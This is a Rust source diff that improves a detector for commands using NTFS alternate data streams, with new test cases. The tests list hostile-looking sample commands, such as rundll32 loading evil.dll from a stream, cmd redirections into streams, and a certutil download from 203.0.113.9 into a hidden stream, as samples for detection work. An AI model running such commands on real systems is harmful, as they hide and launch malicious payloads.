@@ -37,62 +37,132 @@ impl Contents {
 }
 
 /// Whether a value names contents. What need not be a file may be a command, with colons in its arguments: there only a path does that
-/// begins like one, with a drive, a backslash, a dot or a variable, and that ends at the next switch.
+/// begins like one, with a drive, a backslash, a dot or a variable, and that ends with its quotes or, without any, at the next switch.
 pub(super) fn are_named(value: &str, is_file: bool) -> bool {
-    if !is_windows(value) || !value.contains(':') {
+    let has_backslash = value.contains('\\');
+    if !value.contains(':') || (value.starts_with('/') && !has_backslash) {
         return false;
     }
-    let is_file = is_file || (has_drive(value) && !value.contains(char::is_whitespace));
-    let is_separator = |c| matches!(c, '\\' | '/');
-    let ends_path = |c: char| "\"'=,;()".contains(c);
+    let is_file = is_windows(value) && (is_file || (has_drive(value) && !value.contains(char::is_whitespace)));
+    let mut path: Option<Path> = None;
     let mut name = Name::default();
-    let mut in_path = false;
+    let mut behind_quote = None;
     let mut last = ' ';
     for (at, c) in value.char_indices() {
         let after = &value[at + c.len_utf8()..];
-        if last.is_whitespace() || ends_path(last) {
-            let drive = c.is_ascii_alphabetic() && after.starts_with(':');
-            in_path |= drive || "\\.%$".contains(c);
-            in_path &= !(last.is_whitespace() && matches!(c, '/' | '-'));
+        let begins_word = !last.is_alphanumeric() && last != '_';
+        let quote = path.as_ref().and_then(|path| path.quote);
+        // Within a name an apostrophe is one.
+        if c == '"' || (c == '\'' && (begins_word || quote == Some(c))) {
+            path = path.filter(|_| {
+                let closes = quote == Some(c) && after.chars().next().is_none_or(char::is_whitespace);
+                !closes && (quote.is_some() || !last.is_whitespace())
+            });
+            if let Some(path) = &mut path {
+                path.turn(c);
+            }
+            behind_quote = Some(c);
+            last = c;
+            continue;
+        }
+        if c.is_whitespace() {
+            behind_quote = None;
+            if let Some(path) = path.as_mut().filter(|path| path.quote.is_none()) {
+                path.has_slashes = false;
+            }
+        }
+        if last.is_whitespace() && quote.is_none() && matches!(c, '/' | '-') {
+            path = None;
+        }
+        let of_a_folder = begins_drive(c, after);
+        let begins_argument = last.is_whitespace() || "\"'=,;()".contains(last);
+        let begins_path = has_backslash
+            && ((!is_separator(last) && "\\.%$".contains(c))
+                || (begins_argument && c.is_ascii_alphabetic() && after.starts_with(':')));
+        if begins_word && (of_a_folder || begins_path) {
+            let path = path.get_or_insert_default();
+            path.quote = path.quote.or(behind_quote);
+            path.has_slashes |= of_a_folder;
         }
         if c == ':' && at > 1 {
             let of_a_drive = name.len == 1 && after.starts_with(is_separator);
-            // Of a list: no contents have a name with a colon and a separator in it.
-            let of_another_path = || {
-                let mut next = after.chars();
-                next.next().is_some_and(|c| c.is_ascii_alphabetic())
-                    && next.next() == Some(':')
-                    && next.next().is_some_and(is_separator)
-            };
-            let of_a_path = in_path
-                && name.follows_backslash
-                && name.len > 0
-                && !name.is_of_a_command
-                && after.starts_with(|c: char| c.is_alphanumeric() || c == '$');
-            if !of_a_drive && (is_file || (of_a_path && !of_another_path())) {
+            let of_a_path = || path.as_ref().is_some_and(|path| path.may_end_in(&name)) && begins_contents(after);
+            if !of_a_drive && (is_file || of_a_path()) {
                 return true;
             }
         }
+        let ends_argument = c.is_whitespace() || ",;=<>|".contains(c);
         if is_separator(c) {
             name = Name {
-                follows_backslash: c == '\\',
+                follows: Some(c),
                 ..Name::default()
             };
         } else {
             name.len += c.len_utf8();
-            name.is_of_a_command |= c.is_whitespace() || ends_path(c);
+            name.is_of_a_command |= ends_argument;
         }
-        in_path &= !ends_path(c);
+        path = path.filter(|path| !(ends_argument && path.ends_at(c)));
         last = c;
     }
     false
+}
+
+fn is_separator(c: char) -> bool {
+    matches!(c, '\\' | '/')
+}
+
+/// Whether a letter, and what stands behind it, are a drive and the beginning of a path on it.
+fn begins_drive(c: char, after: &str) -> bool {
+    let path = after.strip_prefix(':');
+    c.is_ascii_alphabetic() && path.is_some_and(|path| path.starts_with(is_separator))
+}
+
+/// Whether what stands behind a colon may be the name of contents: not where nothing does, nor another path of a list.
+fn begins_contents(after: &str) -> bool {
+    let mut name = after.trim_start_matches(['"', '\'']).chars();
+    name.next()
+        .is_some_and(|c| !c.is_whitespace() && !is_separator(c) && !begins_drive(c, name.as_str()))
+}
+
+/// A path, so far as it is read.
+#[derive(Default)]
+struct Path {
+    /// Within which, if any, it stands.
+    quote: Option<char>,
+    /// A slash in it is not that of an address or of an image: `C:\x.exe http://host:80`.
+    has_slashes: bool,
+}
+
+impl Path {
+    /// Goes over a quote: into or out of what is quoted, unless that has quotes of the other kind.
+    fn turn(&mut self, quote: char) {
+        match self.quote {
+            None => self.quote = Some(quote),
+            Some(open) if open == quote => self.quote = None,
+            Some(_) => {}
+        }
+    }
+
+    /// Whether this ends an argument and the path with it. No name has the last three.
+    fn ends_at(&self, c: char) -> bool {
+        "<>|".contains(c) || (self.quote.is_none() && !c.is_whitespace())
+    }
+
+    /// Whether this is the name of a file or folder in it.
+    fn may_end_in(&self, name: &Name) -> bool {
+        name.len > 0
+            && name
+                .follows
+                .is_some_and(|separator| separator == '\\' || self.has_slashes)
+            && (self.quote.is_some() || !name.is_of_a_command)
+    }
 }
 
 /// What stands between two separators, so far as it is read.
 #[derive(Default)]
 struct Name {
     len: usize,
-    follows_backslash: bool,
+    follows: Option<char>,
     is_of_a_command: bool,
 }
 
@@ -121,6 +191,31 @@ mod tests {
             r"start C:\Program Files\App:evil.exe",
             r"start /d=C:\Windows\Tracing:evil.exe",
             r"C:\data:C",
+            r"cmd.exe /c type x>C:\Windows\Tracing:evil.exe",
+            r"cmd.exe /c type x>.\Tracing:evil.exe",
+            r"cmd.exe /c x<C:\Windows\Tracing:evil.exe",
+            r"cmd.exe /c x|C:\Windows\Tracing:evil.exe",
+            r"cmd.exe /c x&C:\Windows\Tracing:evil.exe",
+            r"cmd.exe /c @C:\Windows\Tracing:evil.exe",
+            r"cmd.exe /c copy a+C:\Windows\Tracing:evil.exe",
+            r"robocopy.exe C:\a C:\b /log:C:\Windows\Tracing:evil.exe",
+            r#"rundll32.exe "C:\Program Files\Acme, Inc\data:evil.dll",Start"#,
+            r#"rundll32.exe "C:\ProgramData\Acme - Tools\data:evil.dll",Start"#,
+            r#"rundll32.exe "C:\Acme (old)\My Data:evil.dll",Start"#,
+            r#"rundll32.exe x" "C:\Acme, Inc\data:evil.dll",Start"#,
+            r#"csc.exe "/out:C:\Acme, Inc\data:evil.dll""#,
+            r"gc 'C:\Acme, Inc\data:evil.ps1'",
+            r"gc 'C:\O''Neil, Inc\data:evil.ps1'",
+            r"rundll32.exe C:\Users\O'Neil\data:evil.dll,Start",
+            r"C:\Program Files (x86)\App\data:evil.dll -x y",
+            r"rundll32.exe C:\Windows\Tracing:_evil.dll,Start",
+            r"rundll32.exe C:\Windows\Tracing:.dll,Start",
+            r"rundll32.exe C:\Windows\Tracing:^evil.dll,Start",
+            r#"rundll32.exe C:\Windows\Tracing:"evil.dll",Start"#,
+            r#"rundll32.exe C:\Windows\"Tracing":evil.dll,Start"#,
+            r"rundll32.exe C:\Windows/Tracing:evil.dll,Start",
+            r"rundll32.exe C:/Windows/Tracing:evil.dll,Start",
+            r"certutil -f http://203.0.113.9/x C:\Windows\Tracing:evil.exe",
         ] {
             assert!(are_named(command, false), "{command}");
         }
@@ -134,6 +229,14 @@ mod tests {
             r"powershell -c Get-Item HKLM:\Software\App",
             r"C:\a b",
             "ab:c:d",
+            r#""C:\Tools\icacls.exe" C:\Data "CORP\svc:(OI)(CI)F" 'CORP\adm:F'"#,
+            r"C:\Docker\docker.exe pull registry/img:tag",
+            r"C:\Windows\curl.exe http://proxy.example:8080/x",
+            r"C:\Tools\x.exe C:\a.txt>NUL 10:30",
+            r#"cmd.exe /c "C:\Tools\x.exe" 10:30"#,
+            r"schtasks /create /tr C:\x\y.bat /st 10:30",
+            "rsync ./a/b:c /srv/x",
+            "sed -e s:/var/a:/tmp/b: /srv/x",
         ] {
             assert!(!are_named(command, false), "{command}");
         }
